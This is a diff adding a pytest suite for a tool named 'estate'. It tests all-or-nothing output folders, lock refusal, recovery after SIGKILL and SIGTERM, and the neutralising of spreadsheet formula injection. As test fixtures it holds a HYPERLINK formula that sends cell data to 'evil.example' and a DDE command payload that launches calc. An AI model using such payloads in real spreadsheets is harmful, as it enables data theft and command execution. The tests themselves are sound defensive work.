@@ -1,0 +1,232 @@
+"""Outputs are all-or-nothing, refuse a second writer, list their class, and never carry a live formula."""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import json
+import os
+import signal
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from estate._errors import EstateError
+from estate._io import MANIFEST, FolderBusy, OutputFolder, neutralise, write_csv
+from estate.cli import main
+
+from conftest import write_town
+
+ESTATE = [sys.executable, "-m", "estate.cli"]
+
+
+def _snapshot(folder: Path) -> dict[str, str]:
+    """Every file of a folder (relative path) and its SHA-256."""
+    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+def _leftovers(parent: Path, name: str) -> list[str]:
+    return sorted(p.name for p in parent.iterdir() if p.name.startswith(f".{name}."))
+
+
+# --------------------------------------------------------------------------
+# All or nothing
+# --------------------------------------------------------------------------
+
+
+def test_a_failed_write_leaves_the_old_folder_as_it_was(tmp_path):
+    target = tmp_path / "run"
+    with OutputFolder(target, command="test") as stage:
+        (stage / "a.txt").write_text("old")
+    before = _snapshot(target)
+    with pytest.raises(RuntimeError):
+        with OutputFolder(target, command="test") as stage:
+            (stage / "a.txt").write_text("new")
+            (stage / "b.txt").write_text("new")
+            raise RuntimeError("the solver fell over")
+    assert _snapshot(target) == before
+    assert _leftovers(tmp_path, "run") == []
+    manifest = json.loads((target / MANIFEST).read_text())
+    assert manifest["files"] == {"a.txt": "shareable"}
+
+
+def test_the_manifest_gives_every_file_its_class(tmp_path):
+    with OutputFolder(tmp_path / "run", command="test") as stage:
+        (stage / "plan.gpkg").write_text("x")
+        (stage / "restricted" / "register.gpkg").write_text("y")
+        (stage / "maps").mkdir()
+        (stage / "maps" / "plan.html").write_text("z")
+    files = json.loads((tmp_path / "run" / MANIFEST).read_text())["files"]
+    assert files == {"maps/plan.html": "shareable", "plan.gpkg": "shareable", "restricted/register.gpkg": "restricted"}
+
+
+def test_a_second_run_into_a_folder_in_use_is_refused(tmp_path, capsys):
+    from conftest import REPO
+
+    target = tmp_path / "reg"
+    with OutputFolder(target, command="first"):
+        with pytest.raises(FolderBusy, match="being written by another estate run"):
+            with OutputFolder(target, command="second"):
+                pass
+        code = main(["register", "--sources", str(REPO / "data/assets/partners.toml"), "--out", str(target)])
+        assert code == 2 and "being written by another estate run (pid" in capsys.readouterr().err
+    assert not (tmp_path / ".reg.lock").exists()  # released and removed
+    with OutputFolder(target, command="third") as stage:  # free again
+        (stage / "x").write_text("1")
+
+
+def test_a_kill_between_the_two_renames_of_the_fallback_swap_is_recovered(tmp_path, monkeypatch):
+    import estate._io as io
+
+    target = tmp_path / "run"
+    with OutputFolder(target, command="old") as stage:
+        (stage / "a.txt").write_text("old")
+    old = _snapshot(target)
+    monkeypatch.setattr(io, "_exchange", lambda a, b: False)  # a file system that cannot swap
+    real_rename = os.rename
+    calls = []
+
+    def killed_after_the_first(src, dst):
+        calls.append((src, dst))
+        real_rename(src, dst)
+        if len(calls) == 1:
+            raise KeyboardInterrupt  # as if killed here: the old folder moved aside, the new one not in
+    monkeypatch.setattr(io.os, "rename", killed_after_the_first)
+    with pytest.raises(KeyboardInterrupt):
+        with OutputFolder(target, command="new") as stage:
+            (stage / "a.txt").write_text("new")
+    monkeypatch.setattr(io.os, "rename", real_rename)
+    assert not target.exists()
+    with OutputFolder(target, command="next"):  # the next run puts the old complete folder back first
+        assert _snapshot(target) == old
+        left = _leftovers(tmp_path, "run")  # the lock and this run's own staging folder: nothing else
+        assert left[0] == ".run.lock" and len(left) == 2 and left[1].startswith(f".run.partial-{os.getpid()}-")
+
+
+def _plan(scenario: Path, out: Path, tmp_path: Path, until: str | None = None, sig: int | None = None) -> int:
+    """Run `estate plan`; with ``until``, send ``sig`` once that progress line is printed. Returns the
+    exit status (negative: killed by that signal)."""
+    env = {**os.environ, "PYTHONUNBUFFERED": "1"}
+    proc = subprocess.Popen([*ESTATE, "plan", str(scenario), "--out", str(out), "--maps", str(tmp_path / "m")],
+                            stderr=subprocess.PIPE, stdout=subprocess.DEVNULL, text=True, env=env)
+    seen = []
+    for text in proc.stderr:
+        seen.append(text)
+        if until is not None and until in text:
+            proc.send_signal(sig)
+            break
+    proc.stderr.read()
+    proc.stderr.close()
+    code = proc.wait(timeout=300)
+    assert until is None or any(until in t for t in seen), "".join(seen)
+    return code
+
+
+@pytest.fixture(scope="module")
+def town_run(tmp_path_factory):
+    """The town's scenario and a complete run of it: the "old set"."""
+    d = tmp_path_factory.mktemp("killed")
+    scenario = write_town(d)
+    assert _plan(scenario, d / "done", d) == 0
+    return scenario, d / "done"
+
+
+def _old_or_new(code: int, out: Path, old: dict[str, str]) -> str:
+    """After a run that was sent a signal: the old set untouched, or (if it finished first) the new complete set."""
+    now = _snapshot(out)
+    if code == 0:
+        assert set(now) == set(old)
+        return "new"
+    assert now == old, "a mix of old and new files"
+    return "old"
+
+
+@pytest.mark.parametrize("line", ["solving:", "writing programme.xlsx", "drawing the maps"])
+def test_a_killed_plan_leaves_the_old_set_or_the_new_set_never_a_mix(town_run, tmp_path, line):
+    import shutil
+
+    scenario, done = town_run
+    out = tmp_path / "run"
+    shutil.copytree(done, out)
+    old = _snapshot(out)
+    assert {"plan.gpkg", "programme.xlsx", "report.html", "maps/plan.html", "restricted/plan.gpkg"} <= set(old)
+
+    code = _plan(scenario, out, tmp_path, line, signal.SIGKILL)
+    assert code in (0, -signal.SIGKILL)
+    _old_or_new(code, out, old)
+
+    old = _snapshot(out)
+    code = _plan(scenario, out, tmp_path, line, signal.SIGTERM)
+    assert code in (0, 143)
+    _old_or_new(code, out, old)
+    if code == 143:  # stopped cleanly: it removed its partial folder and its lock
+        assert _leftovers(tmp_path, "run") == []
+
+    # The next run clears whatever a SIGKILL left beside the folder and writes the new complete set.
+    assert _plan(scenario, out, tmp_path) == 0
+    assert set(_snapshot(out)) == set(old)
+    assert _leftovers(tmp_path, "run") == []
+
+
+# --------------------------------------------------------------------------
+# No formula injection
+# --------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("text, written", [("=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"),
+                                           ("+1+1", "'+1+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
+                                           ("\tTab", "'\tTab"), ("\rCR", "'\rCR"), ("Town Hall", "Town Hall")])
+def test_csv_cells_are_neutralised(tmp_path, text, written):
+    import pandas as pd
+
+    write_csv(pd.DataFrame({"name": [text], "value": [-5.0]}), tmp_path / "t.csv")
+    with open(tmp_path / "t.csv", newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[1] == [written, "-5.0"]  # numbers stay numbers
+    assert neutralise(text) == written
+
+
+def test_names_that_look_like_formulas_stay_text_in_the_workbook_and_csvs(tmp_path):
+    scenario = write_town(tmp_path)
+    assets = tmp_path / "town" / "assets_C.csv"
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assets.write_text(assets.read_text().replace("Civic Offices West", '"' + evil.replace('"', '""') + '"').replace(
+        "North Offices", '"@cmd|\' /C calc\'!A0"'))
+    out = tmp_path / "run"
+    assert main(["plan", str(scenario), "--out", str(out), "--maps", str(tmp_path / "m")]) == 0
+    book = load_workbook(out / "programme.xlsx")
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)
+             and ("evil.example" in c.value or "calc" in c.value)]
+    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
+    with zipfile.ZipFile(out / "programme.xlsx") as z:
+        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
+    assert "<f>HYPERLINK" not in xml and "evil.example" in xml  # stored as text, never as a formula
+    for name in ("programme_disposals.csv", "programme_lines.csv"):
+        with open(out / name, newline="", encoding="utf-8") as fh:
+            values = [v for row in csv.reader(fh) for v in row if "evil.example" in v or "calc" in v]
+        assert values and all(v.startswith("'") for v in values), name
+
+
+def test_the_rejects_table_neutralises_raw_values(tmp_path):
+    from conftest import partner_toml
+
+    (tmp_path / "p.csv").write_text("Ref,Name,Type,Tenure,GIA,Cost,X,Y\nB1,=1+1,office,freehold,-5,100,340500,366300\n")
+    (tmp_path / "partners.toml").write_text(partner_toml("P", "p.csv", columns={"name": "Name"}))
+    assert main(["register", "--sources", str(tmp_path / "partners.toml"), "--out", str(tmp_path / "o")]) == 0
+    with open(tmp_path / "o" / "restricted" / "rejects.csv", newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    assert rows[0]["value"] == "'-5.0" and rows[0]["column"] == "GIA"
+
+
+def test_an_estate_error_names_the_folder_it_would_not_replace(tmp_path):
+    (tmp_path / "docs").mkdir()
+    (tmp_path / "docs" / "letter.txt").write_text("keep me")
+    with pytest.raises(EstateError, match="holds files estate did not write"):
+        with OutputFolder(tmp_path / "docs", command="x"):
+            pass
+    assert (tmp_path / "docs" / "letter.txt").read_text() == "keep me"
